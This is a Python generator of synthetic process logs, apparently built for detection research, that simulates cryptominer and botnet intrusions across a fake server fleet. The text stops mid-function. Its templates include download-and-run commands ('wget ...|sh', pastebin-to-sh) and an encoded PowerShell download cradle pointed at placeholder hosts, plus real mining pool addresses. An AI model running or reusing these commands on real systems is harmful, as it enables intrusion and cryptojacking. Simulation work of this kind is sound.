#!/usr/bin/env python3
"""Independent synthetic process-log generator. See README.md beside it."""
import argparse, random, os, sys, json, math, base64, datetime, shutil, heapq
import sim
from sim import *
import hosts as H
from hosts import Host, LROLES
import linbenign as LB
import lingangs as LG
import win as W

EPOCH = 1772323200.0   # 2026-03-01T00:00:00Z
MINUTE = 60.0
assert datetime.datetime(2026, 3, 1, tzinfo=datetime.timezone.utc).timestamp() == EPOCH
_day = {}
def ts(t):
    t = max(t, 0.0); ms = int(t * 1000); d, r = divmod(ms, 86400000)
    s = _day.get(d)
    if s is None: s = _day[d] = (datetime.datetime(2026, 3, 1) + datetime.timedelta(days=d)).strftime('%Y-%m-%dT')
    h, r = divmod(r, 3600000); m, r = divmod(r, 60000); x, ms = divmod(r, 1000)
    return '%s%02d:%02d:%02d.%03dZ' % (s, h, m, x, ms)

# ---------------------------------------------------------------- infrastructure
SYL = 'ka lo mi ter van dro pix sol ner qua bit zen cor fal mar dex rin tol gra hus vel ost pra nim yor'.split()
TLDS = ['xyz', 'top', 'ru', 'cc', 'pw', 'click', 'su', 'info', 'online', 'site', 'com', 'net', 'org', 'io', 'live', 'space', 'club', 'icu', 'example', 'test', 'in', 'me']
B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'
POOLS = ['pool.supportxmr.com:443', 'gulf.moneroocean.stream:10128', 'xmr-eu1.nanopool.org:14433', 'pool.hashvault.pro:443', 'auto.c3pool.org:19999']
ROTH = ['rot', 'cdn', 'img', 'api', 'update', 'static', 'dl', 'files', 'm', 'x', 'ns1']
def dom(r, themed=None):
    n = ''.join(r.choice(SYL) for _ in range(r.randint(2, 4)))
    x = r.random()
    if themed: n = r.choice(['silent', 'dark', 'heron', 'borg', 'chim', 'night']) + r.choice(['bird', 'wtf', 'swarm', 'aera', 'run'])
    elif x < .2: n = n + str(r.randint(2, 999))
    elif x < .35: n = r.choice(SYL) + '-' + n
    d = n + '.' + r.choice(TLDS)
    if r.random() < .35: d = r.choice(ROTH) + '.' + d
    if r.random() < .06: d = rname(r, 8) + '.' + r.choice(['duckdns.org', 'ddns.net', 'anondns.net', 'trycloudflare.com', 'github.io'])
    return d
def wallet(r): return r.choice('48') + rname(r, 94, B58)
def sshkey(r): return 'AAAAB3NzaC1yc2EAAAADAQABAAABAQ' + rname(r, 200, sim.B64) + '=='
PROCNAME = {'copper-kin': 'kdevtmpfsi', 'azure-cat': 'kinsing', 'rock-onion': 'khugepageds', 'dogwatch': 'zzh', 'eighty-two': 'dbused', 'teal-heron': 'tntrecht', 'red-tail': '.redtail', 'my-kings': 'lsmose.exe', 'lemon-tart': 'm6.exe', 'wanna-pick': 'TrustedHostServices.exe'}
TASKNAME = {'my-kings': 'Mysa', 'lemon-tart': 'blackball'}

def fresh(r, g):
    d = {}
    d['IP'] = uniq_ip(r); d['IP2'] = uniq_ip(r); d['IP3'] = uniq_ip(r)
    d['DOM'] = dom(r, g.get('dom')); d['C2'] = uniq_ip(r) if r.random() < .5 else dom(r)
    d['PORT'] = r.choice((8080, 9090, 8000, 88, 1414, 8443, 9999, r.randint(1025, 65000))); d['PORT2'] = r.randint(2000, 60000)
    d['WAL'] = wallet(r); d['KEY'] = sshkey(r)
    d['POOL'] = (dom(r) if r.random() < .5 else uniq_ip(r)) + ':' + str(r.choice((3333, 443, 5555, 80, 14444, 10128)))
    d['PASTE'] = rname(r, 8, B58); d['PASTE2'] = rname(r, 8, B58)
    d['GH'] = r.choice(SYL) + r.choice(SYL) + rname(r, 2) + str(r.randint(1, 99))
    for k in ('TOK', 'TOK2', 'TOK3', 'TOK4', 'TOK5'): d[k] = rname(r, r.choice((22, 32, 44)), sim.B64[:62]) + ('=' if k == 'TOK' else '')
    d['TOKB'] = rname(r, 120, sim.B64) + '='
    d['EMAIL'] = r.choice(SYL) + r.choice(SYL) + str(r.randint(1, 999)) + '@' + r.choice(('gmail.com', 'proton.me', 'mail.ru', 'outlook.com'))
    d['RH8P'] = rname(r, 8, '0123456789abcdef'); d['RH32'] = rname(r, 32, '0123456789abcdef')
    d['PASS'] = rname(r, 32, '0123456789abcdef'); d['PSENC'] = base64.b64encode(("iex(irm 'http://%s/%s')" % (d['DOM'], d['PASTE'])).encode('utf-16-le')).decode()
    return d
SECRET = set('IP IP2 IP3 DOM C2 WAL KEY POOL PASTE PASTE2 GH TOK TOK2 TOK3 TOK4 TOK5 TOKB EMAIL RH8P RH32 PASS PSENC PORT PORT2'.split())
def names(r, g):
    """names and habits: kept over all waves"""
    d = {}
    d['KEYC'] = r.choice(('root@localhost', 'admin@%s' % rname(r, 6), 'rsa 2048-%06d' % r.randint(0, 999999), 'hilde@' + rname(r, 5)))
    d['TAG'] = r.choice((rname(r, 5), rname(r, 3) + '_' + rname(r, 3), 'x86.' + rname(r, 4), rname(r, 4) + str(r.randint(1, 99))))
    d['SUSER'] = r.choice(('support', 'sysadm', 'pgg_superadmins', 'mm123$', 'adminserv', 'nagiosd')) + (str(r.randint(1, 99)) if r.random() < .5 else '')
    d['SH'] = r.choice(g.get('sh', ['x.sh'])); d['DIR'] = r.choice(('bins', 'b', 'd', 'hiddenbin', 'z', '00101010101001')); d['UA'] = 'Mozilla/5.0'
    d['MARK'] = rname(r, 10, '0123456789abcdef'); d['MARK2'] = rname(r, 10, '0123456789abcdef'); d['WS'] = r.choice(('class-wp-http-', 'wp-l0gin', 'about', 'radio')) + rname(r, 3)
    d['TASK'] = r.choice(('Adobe Sync ', 'OneDrive Reporting ', 'NetSvcHost', 'GoogleUpdaterCore')) + rname(r, 3)
    d['EXE'] = r.choice(g.get('exe', ['x.exe'])); d['CF'] = r.choice(('cf', 'ex', 'tomc', 'wb', 'ki')); d['MIM'] = r.choice(g.get('mim', ['sh'])); d['BX'] = r.choice(('x86', 'bx', 'nuts'))
    d['FAKE'] = r.choice(('/usr/sbin/dropbear', '/var/Sofia', 'httpd', '/bin/sh -c', 'sshd')); d['BINN'] = rname(r, 6) if False else r.choice(('8000', 'a21jj', '3306dd', 'ygljglkjgfg0')); d['PTY'] = 'pty'
    d.update(g.get('fixed', {}))
    return d
def per_incident(r, h):
    d = {}
    for n in (4, 6, 8, 10, 12): d['RN%d' % n] = rname(r, n)
    d['RH8'] = rname(r, 8, '0123456789abcdef'); d['RD2'] = str(r.randint(10, 99)); d['RT10'] = rname(r, 10, sim.B64[:62])
    for i in range(1, 7): d['RX%d' % i] = rname(r, 10)
    d['PID1'] = str(r.randint(400, 32000)); d['LAN1'] = gen_line('lan', Ctx0(r), 0); d['LAN2'] = gen_line('lan', Ctx0(r), 0)
    d['RNDPW'] = rname(r, 12, sim.B64[:62]); d['ARCH'] = h.arch; d['GARCH'] = 'amd64' if h.arch == 'x86_64' else 'arm64'
    d['WUSER'] = getattr(h, 'user', 'x')
    return d
class Ctx0:
    def __init__(s, r): s.rng = r

# ---------------------------------------------------------------- ways in
def ssh_login(ctx, h, t, user, scene='ssh'):
    """sshd's listener → re-exec'd session → (a fork for others than root) ; → the process that runs the commands"""
    l = h.svc('sshd', t)
    new = h.distro in ('ubuntu24',)
    p = sim_spawn(ctx, l, t, '/usr/lib/openssh/sshd-session' if new else '/usr/sbin/sshd', ('/usr/lib/openssh/sshd-session -D -R' if new else '/usr/sbin/sshd -D -R'), scene, 'session')
    q = p
    if user != 'root': q = sim_fork(ctx, p, t + 0.3 + ctx.rng.random())
    return p, q
def home(user): return '/root' if user == 'root' else '/home/' + user
def ssh_interactive(ctx, h, t, user, body, scene, key):
    p, q = ssh_login(ctx, h, t, user, scene)
    t += 0.6 + ctx.rng.random()
    if h.deb and ctx.rng.random() < .8 and h.distro.startswith('ubuntu'):
        s0 = Sh(p, ctx, 'prog', scene + '-motd', {}, {}, '/')
        ctx.bodies.setdefault('motd', MOTD)
        t, _, _ = run_list(parse('sh -c "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new @@kids=motd"'), s0, t, None)
    b = sim_spawn(ctx, q, t, h.resolve('bash'), '-bash', scene, key)
    sh = Sh(b, ctx, 'bash', scene, {'HOME': home(user)}, {}, home(user))
    if h.deb:
        sh0 = Sh(b, ctx, 'bash', scene + '-rc', {'HOME': home(user)}, {}, home(user))
        x = run_list(parse('dircolors -b @@path=/usr/bin/dircolors\nif ?60; then lesspipe @@path=/usr/bin/dash; fi' if user != 'root' else 'if ?50; then id -u; fi\nif ?30; then mesg n @@path=/usr/bin/mesg; fi'), sh0, t + 0.01, None)
        t = x[0]
    t += ctx.rng.uniform(1, 6)
    ast = parse(body)
    try:
        for node, sep in ast[1]:
            t, _, _ = run_list(('list', [(node, sep)]), sh, t, None)
            if sh.dead: break
            t += (ctx.rng.uniform(0.02, 0.3) if ctx.gang and ctx.facts.get('fast') else ctx.rng.uniform(1.5, 25))
    except Exit as e: t = e.t
    finally:
        setend(b, min(t + 1, ctx.deadline)); setend(p, min(t + 1.1, ctx.deadline))
        if q is not p: setend(q, min(t + 1.05, ctx.deadline))
    return t
MOTD = "as /usr/bin/dash /bin/sh /etc/update-motd.d/00-header @@prog=motd0\nas /usr/bin/dash /bin/sh /etc/update-motd.d/50-landscape-sysinfo @@prog=motd1\nas /usr/bin/dash /bin/sh /etc/update-motd.d/90-updates-available\nas /usr/bin/dash /bin/sh /etc/update-motd.d/98-reboot-required"
LB.B['motd0'] = 'uname -o\nuname -r\nuname -m'
LB.B['motd1'] = 'grep -c ^processor /proc/cpuinfo\ncut -f1 -d\' \' /proc/loadavg\ndate'
LB.B['motd'] = MOTD
def ssh_exec(ctx, h, t, user, lines, scene, gap=(0.05, 0.4), one=False):
    """ssh host CMD…: bash -c for each"""
    p, q = ssh_login(ctx, h, t, user, scene)
    t += 0.5 + ctx.rng.random() * .5
    sh = Sh(q, ctx, 'prog', scene, {'HOME': home(user)}, {}, home(user))
    node_cache = {}
    try:
        for ln in lines:
            shell = 'bash' if h.has('bash') else 'sh'
            t, _, _ = launch([shell, '-c', ln], sh, t, None, {}, 'bash -c ' + ln)
            t += ctx.rng.uniform(*gap)
    finally:
        setend(p, min(t + .05, ctx.deadline))
        if q is not p: setend(q, min(t + .04, ctx.deadline))
    return t
def cron_run(ctx, h, t, cmd, scene, key):
    c = h.svc('cron', t)
    f = sim_fork(ctx, c, t)
    t += 0.002 + ctx.rng.random() * .01
    sh = Sh(f, ctx, 'prog', scene, {'HOME': '/root'}, {}, '/root')
    try: t, _, _ = launch(['/bin/sh', '-c', cmd], sh, t, None, {}, key)
    finally: setend(f, min(t + .01, ctx.deadline))
    return t
def prog_at(ctx, par, t, body, scene, cwd='/'):
    sh = Sh(par, ctx, 'prog', scene, {'HOME': '/root'}, {}, cwd)
    try: t, _, _ = run_list(parse(body), sh, t, None)
    except Exit as e: t = e.t
    return t
def container(ctx, h, t, cmdline, scene, ns='moby', run=None, ct=None):
    """containerd → shim (adopted by init) → runc → the container's first process, a child of the shim"""
    rng = ctx.rng; cid = rname(rng, 64, '0123456789abcdef'); cd = h.svc('containerd', t)
    s0 = sim_spawn(ctx, cd, t, '/usr/bin/containerd-shim-runc-v2', '/usr/bin/containerd-shim-runc-v2 -namespace %s -address /run/containerd/containerd.sock -publish-binary /usr/bin/containerd -id %s start' % (ns, cid), scene, 'shim-start', dur=0.03)
    shim = sim_spawn(ctx, s0, t + 0.02, '/usr/bin/containerd-shim-runc-v2', '/usr/bin/containerd-shim-runc-v2 -namespace %s -id %s -address /run/containerd/containerd.sock' % (ns, cid), scene, 'shim', adopt=False)
    rc = sim_spawn(ctx, shim, t + 0.06, '/usr/bin/runc', 'runc --root /var/run/docker/runtime-runc/%s --log /run/containerd/io.containerd.runtime.v2.task/%s/%s/log.json --log-format json --systemd-cgroup create --bundle /run/containerd/io.containerd.runtime.v2.task/%s/%s --pid-file init.pid %s' % (ns, ns, cid, ns, cid, cid), scene, 'runc-create', dur=0.15)
    sim_spawn(ctx, rc, t + 0.08, '/usr/bin/runc', 'runc init', scene, 'runc-init', dur=0.1)
    t2 = t + 0.3 + rng.random() * .2
    sim_spawn(ctx, shim, t2, '/usr/bin/runc', 'runc --root /var/run/docker/runtime-runc/%s --log-format json start %s' % (ns, cid), scene, 'runc-start', dur=0.03)
    sh = Sh(shim, ctx, 'prog', scene, {'HOME': '/root'}, {}, '/')
    if ct or rng.random() < .5: sh.vars['_CT'] = ct or 'alpine'
    try:
        a = parse(cmdline)
        e, _, _ = run_list(a, sh, t2 + .03, None)
        if run: pass
    except Stop:
        setend(shim, ctx.deadline); raise
    except Exit as x: e = x.t
    e2 = max(e, t2 + .1) + .02
    try: sim_spawn(ctx, shim, e2, '/usr/bin/runc', 'runc --root /var/run/docker/runtime-runc/%s --log-format json delete %s' % (ns, cid), scene, 'runc-delete', dur=0.04)
    except Stop: pass
    setend(shim, min(e2 + .3, ctx.deadline))
    return e2
def exec_in(ctx, h, t, line, scene):
    """runc exec in a running container"""
    sims = h.facts['shims'][h.boot_i(t)]
    shim = ctx.rng.choice(sims)
    cid = '%064x' % (hsh(h.name, id(shim) and sims.index(shim)) ** 4 % (1 << 256))
    r = sim_spawn(ctx, shim, t, '/usr/bin/runc', 'runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/%s/log.json --log-format json exec --process /tmp/runc-process%d --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/%s/x.pid %s' % (cid, ctx.rng.randint(10**8, 10**9), cid, cid), scene, 'runc-exec', dur=.06)
    sim_spawn(ctx, r, t + .015, '/usr/bin/runc', 'runc init', scene, 'runc-init', dur=.03)
    sh = Sh(shim, ctx, 'prog', scene, {'HOME': '/root'}, {}, '/')
    try: e, _, _ = run_list(parse(line), sh, t + .07, None)
    except Exit as x: e = x.t
    return e

def rdp_session(ctx, h, t, scene, dur):
    sm = sim_spawn(ctx, h.svc('smss', t), t, W.S32 + 'smss.exe', '\\SystemRoot\\System32\\smss.exe 000000%02x 00000084' % ctx.rng.randint(190, 250), scene, 'smss', dur=1.4)
    sim_spawn(ctx, sm, t + .2, W.S32 + 'csrss.exe', '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows', scene, 'csrss', dur=dur)
    wl = sim_spawn(ctx, sm, t + .5, W.S32 + 'winlogon.exe', 'winlogon.exe', scene, 'winlogon', dur=dur)
    ui = sim_spawn(ctx, wl, t + 2, W.S32 + 'userinit.exe', 'C:\\Windows\\system32\\userinit.exe', scene, 'userinit', dur=20)
    ex = sim_spawn(ctx, ui, t + 2.3, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', scene, 'explorer', dur=dur)
    sim_spawn(ctx, h.svc('term', t), t + 3, W.S32 + 'rdpclip.exe', 'rdpclip', scene, 'rdpclip', dur=dur)
    return ex

class Gen:
    def __init__(s, a):
        s.a = a; s.seed = a.seed; s.rng = random.Random('plan%d' % a.seed)
        s.nh = a.hosts or max(200, min(2000, a.events // 1150)); s.days = a.days or (4 if a.events / s.nh < 2000 else 6); s.t_end = s.days * DAY
        s.org = s.rng.choice(('northwind', 'acmeretail', 'kontor', 'brightlab', 'unifreight', 'medisys'))
        s.cost = {}
        s.nid = 0
    # ---- fleet
    def fleet(s):
        r = s.rng; out = []
        nw = 0 if s.a.os == 'linux' else s.nh if s.a.os == 'windows' else s.nh * 45 // 100
        lw = [x[1] for x in LROLES]
        sites = r.sample(['fra', 'ams', 'iad', 'sin', 'hel', 'lon', 'sfo', 'gru'], 4)
        for i in range(s.nh - nw):
            role, _, svc, exp = r.choices(LROLES, lw)[0]
            distro = r.choice(('ubuntu20', 'ubuntu22', 'ubuntu22', 'ubuntu24', 'debian10', 'debian11', 'debian12', 'centos7', 'rocky8', 'rhel9', 'amzn2'))
            if role in ('tomcat', 'spring', 'mq', 'hpc', 'redis') and r.random() < .5: distro = r.choice(('centos7', 'rocky8', 'rhel9'))
            if role == 'desktop': distro = r.choice(('ubuntu22', 'ubuntu24', 'debian12'))
            if role == 'iot': distro = 'iot'
            if role == 'pod': distro = r.choice(('alpine', 'alpine', 'debian12'))
            st = r.choice(sites)
            nm = r.choice(('%s-%s-%03d' % (st, role, i), '%s%02d.%s.%s.net' % (role[:4], i % 100, st, s.org), 'ip-10-%d-%d-%d' % (r.randint(0, 60), i // 250, i % 250), '%s%d' % (role, 1000 + i)))
            if role == 'pod': nm = '%s-%s-%s' % (r.choice(('api', 'web', 'cart', 'ssr', 'bff')), rname(r, 9, 'bcdf456789'), rname(r, 5, 'bcdfghjklmnp') + str(i))
            if role == 'iot': nm = r.choice(('DVR-%04d', 'ipcam-%d', 'gw-%d', 'RT-AC%d')) % i
            h = Host(nm + ('' if '.' in nm or role == 'pod' or r.random() < .0 else ''), role, distro, random.Random('h%d.%d' % (s.seed, i)))
            h.exposes = set(exp.split())
            h.svcmap = dict(svc)
            h.seedkey = i
            if role == 'pod':
                h.svcmap = {'app': r.choice((('/usr/local/bin/node', 'node server.js'), ('/usr/local/bin/node', 'node /app/.next/standalone/server.js'), ('/usr/local/bin/python3.11', 'python3 -m uvicorn app:app')))}
                h.exposes = {'pod'} if 'node' in h.svcmap['app'][0] else {'podpy'}
                h.add('node')
            else:
                for n, v in (('sshd', ('/usr/sbin/sshd', '/usr/sbin/sshd -D')), ('cron', (h.cronpath, h.cronpath + (' -f' if h.deb else ' -n')))):
                    if h.svcmap.get(n) == 1: h.svcmap[n] = v
                if role != 'iot':
                    hr = h.rng
                    for n, pr, v in (('zabbix', .4, ('/usr/sbin/zabbix_agentd', '/usr/sbin/zabbix_agentd: collector')), ('telegraf', .3, ('/usr/bin/telegraf', '/usr/bin/telegraf -config /etc/telegraf/telegraf.conf')), ('ddagent', .25, ('/opt/datadog-agent/bin/agent/agent', '/opt/datadog-agent/bin/agent/agent run -p /opt/datadog-agent/run/agent.pid')), ('nrpe', .3, ('/usr/sbin/nrpe', '/usr/sbin/nrpe -c /etc/nagios/nrpe.cfg -f')), ('falcon', .4, ('/opt/CrowdStrike/falcond', '/opt/CrowdStrike/falcond')), ('osqueryd', .2, ('/opt/osquery/bin/osqueryd', '/opt/osquery/bin/osqueryd --flagfile /etc/osquery/osquery.flags')), ('wazuh', .25, ('/var/ossec/bin/wazuh-logcollector', '/var/ossec/bin/wazuh-logcollector')), ('qualys', .35, ('/usr/local/qualys/cloud-agent/bin/qualys-cloud-agent', '/usr/local/qualys/cloud-agent/bin/qualys-cloud-agent')), ('ssm', .3, ('/usr/bin/amazon-ssm-agent', '/usr/bin/amazon-ssm-agent')), ('salt', .2, ('/usr/bin/python3.9', '/usr/bin/python3 /usr/bin/salt-minion')), ('chef', .15, ('/opt/chef/embedded/bin/ruby', '/opt/chef/embedded/bin/ruby /opt/chef/bin/chef-client -d')), ('puppet', .2, ('/opt/puppetlabs/puppet/bin/ruby', '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent')), ('snapd', .5 if h.deb else 0, ('/usr/lib/snapd/snapd', '/usr/lib/snapd/snapd'))):
                        if hr.random() < pr: h.svcmap[n] = v
                    if 'falcon' not in h.svcmap: h.svcmap['falcon'] = ('/opt/ds_agent/ds_agent', '/opt/ds_agent/ds_agent -w /var/opt/ds_agent')
                if role in ('docker', 'glrunner', 'k8s'): h.add('docker')
                if role in ('glrunner', 'jenkins', 'desktop', 'phpweb', 'py', 'node'): h.add('git', 'npm', 'mvn', 'node', 'make', 'gcc', 'cmake', 'convert', 'docker', 'sudo', 'npx', 'strings')
                if role in ('phpweb', 'apache'): h.add('php', 'convert')
                if role == 'hpc': h.add('git', 'make', 'cmake', 'gcc')
            for x in ('git', 'node', 'npm', 'php', 'jq', 'dd', 'npx', 'mvn', 'strings'): pass
            k = 2 if r.random() < .02 else 1 if r.random() < .09 else 0
            if role == 'pod' and r.random() < .35: k = r.randint(1, 3)
            h.boots += sorted(r.uniform(0.05, 0.95) * s.t_end for _ in range(k))
            out.append(h)
        wl = [x[1] for x in W.WROLES]
        for i in range(nw):
            role, _, svc, exp = r.choices(W.WROLES, wl)[0]
            nm = {'wks': 'WS-%05d', 'vdi': 'VDI%04d', 'dev': 'DEV-%04d', 'sql': 'SQLP%03d', 'iis': 'WEB%03d', 'exch': 'MBX%02d', 'dc': 'DC%02d', 'rds': 'RDSH%03d', 'file': 'FS%03d', 'javaw': 'APP%03d'}[role] % (i + 11)
            if r.random() < .3: nm += '.corp.' + s.org + '.local'
            h = W.WinHost(nm, role, random.Random('w%d.%d' % (s.seed, i))); h.exposes = set(exp.split()); h.svcmap = dict(svc); h.seedkey = 100000 + i
            k = 1 if r.random() < (.3 if role in ('wks', 'vdi', 'dev') else .12) else 0
            h.boots += sorted(r.uniform(0.05, 0.95) * s.t_end for _ in range(k))
            out.append(h)
        r.shuffle(out)
        s.hosts = out
    # ---- gangs
    def plan(s):
        r = s.rng; a = s.a
        gs = {}
        if a.os != 'windows': gs.update(LG.G)
        if a.os != 'linux': gs.update(W.G)
        if a.os == 'windows':
            gs['hello-srv'] = dict(LG.G['hello-srv'], entries='')
        s.gangs = gs; s.infra = {}; s.names = {}
        # two mirai kin use the same kit but never the same names of their own
        for n, g in gs.items():
            gr = random.Random('g%d.%s' % (s.seed, n))
            s.names[n] = names(gr, g)
            base = fresh(gr, g); pubpool = gr.choice(POOLS[:2])
            waves = []
            for w in range(g['waves']):
                d = fresh(gr, g)
                if w and gr.random() < .0: pass
                for k in g.get('keep', '').split():
                    if k in base: d[k] = base[k]
                if g.get('pool') == 'pub': d['POOL'] = pubpool
                waves.append(d)
            s.infra[n] = waves
        tot = max(60, a.events / 620.0)
        wsum = sum(g['size'] * g['waves'] for g in gs.values())
        s.inc = {}          # host → list of incidents
        incs = []
        fac = {'linux': 1.0, 'windows': 1.0, 'mixed': 1.0}[a.os]
        for n in sorted(gs):
            g = gs[n]; gr = random.Random('i%d.%s' % (s.seed, n))
            ent = [e.split(':') for e in g['entries'].split()] if isinstance(g['entries'], str) else []
            wts = {e: float(w) for e, w in ent}
            win = g['os'] == 'win'
            for w in range(g['waves']):
                cnt = max(4, int(round(tot * g['size'] / wsum * gr.uniform(.6, 1.4))))
                wide = g.get('widespread') and a.widespread and w == 1
                cands = []
                for h in s.hosts:
                    if h.is_win and (win or (n == 'hello-srv')):
                        vs = [v for v in (wts if win else {'javaw': 5}) if s.winmatch(h, v)]
                    elif not h.is_win and not win: vs = [v for v in wts if s.match(h, v)]
                    else: vs = []
                    if vs: cands.append((h, vs))
                if wide:
                    cnt = int(.6 * sum(1 for h in s.hosts if not h.is_win)); have = {id(h) for h, _ in cands}
                    cands += [(h, ['lateral']) for h in s.hosts if not h.is_win and id(h) not in have and h.role not in ('iot', 'pod')]
                gr.shuffle(cands)
                cands.sort(key=lambda c: -max(wts.get(v, 5 if v == 'javaw' else 0) for v in c[1]) * gr.random()) if not wide else None
                cands = cands[:cnt]
                t0 = s.t_end * (w + .05) / g['waves']; t1 = s.t_end * (w + .85) / g['waves']
                srv = None
                for h, vs in cands:
                    v = gr.choices(vs, [wts.get(x, 5) for x in vs])[0]
                    t = gr.uniform(t0, t1) if gr.random() < .6 else t0 + (t1 - t0) * gr.betavariate(2, 5)
                    one = gr.random() < g['oneoff'] and not wide
                    incs.append((t, n, w, h, v, one, gr.random()))
        incs.sort(key=lambda x: (x[0], x[1]))
        s.incs = []
        for i, (t, n, w, h, v, one, salt) in enumerate(incs):
            bi = h.boot_i(t)
            if bi and t < h.boots[bi] + 90: t = h.boots[bi] + 90 + salt * 60
            rec = dict(no=i + 1, t=t, gang=n, wave=w, host=h, vec=v, one=one, salt=salt)
            s.incs.append(rec); s.inc.setdefault(id(h), []).append(rec)
    def match(s, h, v):
        e = h.exposes
        if v == 'ssh': return 'ssh' in e and (('weak' in e) or hsh(s.seed, h.name, 'ssh') % 100 < 35) and h.role != 'iot' or False
        if v == 'telnet': return 'iot' in e
        if v == 'iotweb': return 'iot' in e
        if v == 'tomcat': return h.role == 'tomcat'
        if v == 'java': return 'java' in e and h.role != 'jenkins'
        return v in e
    def winmatch(s, h, v):
        e = h.exposes
        if v == 'sqlv': return 'sql' in e
        if v == 'iisv': return 'iis' in e
        if v == 'rdp': return h.role in ('rds', 'file', 'sql', 'javaw')
        if v == 'psexec': return h.role != 'dc' or True
        if v in ('user', 'mshta', 'usb'): return 'user' in e
        return v in e
    def subs_for(s, rec, h):
        n = rec['gang']; g = s.gangs[n]; r = random.Random('s%d.%d' % (s.seed, rec['no']))
        d = dict(s.names[n])
        if rec['one']:
            d.update(fresh(r, g))
            d['_one'] = 1
        else:
            d.update(s.infra[n][rec['wave']])
            k = r.choice((('IP', 'IP2'), ('IP', 'IP2'), ('IP2', 'IP'), ('IP', 'IP3')))
            x, y = d[k[0]], d[k[1]]; d['IP'], d['IP2'] = x, y
        for i, rv in enumerate(g.get('rivals', ()), 1):
            if rv in s.infra:
                inf = s.infra[rv][min(rec['wave'], len(s.infra[rv]) - 1)]
            else: inf = fresh(random.Random(rv), {})
            d['RIV%dIP' % i] = inf['IP']; d['RIV%dDOM' % i] = inf['DOM']
            d['RIV%dTAG' % i] = s.names.get(rv, {}).get('TAG', 'x'); d['RIV%dTASK' % i] = TASKNAME.get(rv, 'Upd')
            d['RIV%dPROC' % i] = PROCNAME.get(rv, 'sysrv')
        for i in range(len(g.get('rivals', ())) + 1, 4):
            d['RIV%dIP' % i] = '9.9.9.9'; d['RIV%dDOM' % i] = 'moneropool'; d['RIV%dPROC' % i] = 'xmr-stak'; d['RIV%dTASK' % i] = 'Sys'; d['RIV%dTAG' % i] = 'kaiten'
        if g.get('plant') and g['plant'] in s.infra:
            inf = s.infra[g['plant']][min(rec['wave'], 2)]
            d.update(PLKEY=inf['KEY'], PLKEYC=s.names[g['plant']]['KEYC'], PLDOM=inf['DOM'], PLWAL=inf['WAL'], PLPOOL=inf['POOL'])
        d.update(g.get('wavefix', {}).get(rec['wave'], {}))
        d.update(per_incident(r, h)); d['ORG'] = s.org
        return d, r
    def bodies_for(s, g):
        b = g.get('_b')
        if b is None: b = g['_b'] = dict(LB.B, **g['bodies']); b['setup0'] = 'wget -q -O- http://@IP@:@PORT@/i|sh'
        return b
    def run_incident(s, rec, h):
        n = rec['gang']; g = s.gangs[n]; subs, r = s.subs_for(rec, h); v = rec['vec']
        subs0 = subs
        ctx = Ctx(h, r, rec['t'], n, rec['no'], subs, s.bodies_for(g), {})
        t = rec['t']; before = len(h.procs)
        root = {'java': .45, 'php': 0, 'redis': .6, 'docker': 1, 'pg': 0, 'ssh': .8, 'node': .3, 'pod': .5, 'k8s': 1, 'lateral': 1}.get(v, .5)
        ctx.facts = {'root': r.random() < root, 'dockerd': h.role in ('docker', 'k8s', 'glrunner'), 'dlfail': r.choice((.03, .08, .2))}
        ctx.facts['w%d' % rec['wave']] = True
        ctx.facts['user'] = 'root' if ctx.facts['root'] else {'php': 'www-data', 'pg': 'postgres', 'redis': 'redis'}.get(v, 'tomcat')
        try:
            if h.is_win: s.win_entry(ctx, g, h, t, v)
            else: s.lin_entry(ctx, g, h, t, v)
        except (Stop, Exit): pass
        if h.is_win: s.win_persist(rec, g, h, subs, r)
        else: s.lin_persist(rec, g, h, subs, r, ctx.facts)
        rec['n'] = len(h.procs) - before
    def lin_entry(s, ctx, g, h, t, v):
        r = ctx.rng; b = ctx.bodies
        if v in ('java', 'tomcat', 'jenkins'): prog_at(ctx, h.svc('java', t), t, b['entry_' + v], 'entry-' + v, '/opt/app')
        elif v == 'php': prog_at(ctx, h.worker('php-fpm' if h.role == 'phpweb' else 'apache2', t), t, b['entry_php'], 'entry-php', '/var/www/html')
        elif v == 'redis': prog_at(ctx, h.svc('redis', t), t, b['entry_redis'], 'entry-redis', '/var/lib/redis')
        elif v == 'node': prog_at(ctx, h.svc('node', t), t, b['entry_node'], 'entry-node', '/srv/www')
        elif v == 'pod': prog_at(ctx, h.svc('app', t), t, b['entry_node'], 'entry-node', '/app')
        elif v == 'pg':
            f = sim_fork(ctx, h.svc('postgres', t), t); prog_at(ctx, f, t + .2, b['entry_pg'], 'entry-pg', '/var/lib/postgresql/14/main')
        elif v == 'docker':
            if g.get('docker'):
                img, cmd, body = g['docker']
                container(ctx, h, t, '%s @@run=%s' % (cmd, body), 'container', ct='alpine')
            else: container(ctx, h, t, 'sh -c "x"', 'container')
        elif v == 'k8s': exec_in(ctx, h, t, b[g['k8s']], 'kubelet-exec')
        elif v == 'runner':
            sh = 'bash @@run=cij --login'
            prog_at(ctx, h.svc('gitlab-runner', t), t, sh, 'ci-job', '/home/gitlab-runner/builds')
        elif v == 'telnet':
            tn = h.svc('telnetd', t)
            f = sim_spawn(ctx, tn, t, '/bin/busybox', '/bin/login', 'telnet', 'login')
            p = inplace(ctx, f, t + 1.5, '/bin/busybox', '-sh', 'telnet', 'shell')
            sh = Sh(p, ctx, 'dash', 'telnet', {'HOME': '/'}, {}, '/tmp')
            try: t, _, _ = run_list(parse(b['telnet']), sh, t + 2, None)
            finally: setend(p, min(max(t, p.t) + 1, ctx.deadline))
        elif v == 'iotweb': prog_at(ctx, h.svc('httpd', t), t, b['web'], 'web', '/')
        elif v == 'lateral': ssh_exec(ctx, h, t, 'root', ['(curl -fsSL https://pastebin.com/raw/@PASTE@||wget -q -O- https://pastebin.com/raw/@PASTE@)|sh @@run=kerb >/dev/null 2>&1 &'], 'lateral')
        elif v == 'ssh':
            user = 'root' if ctx.facts['root'] else r.choice(('ubuntu', 'admin', 'test', 'oracle', 'git'))
            lines = [x for x in b['ssh'].split('\n') if x.strip()]
            if g.get('sshmode') == 'outlaw':
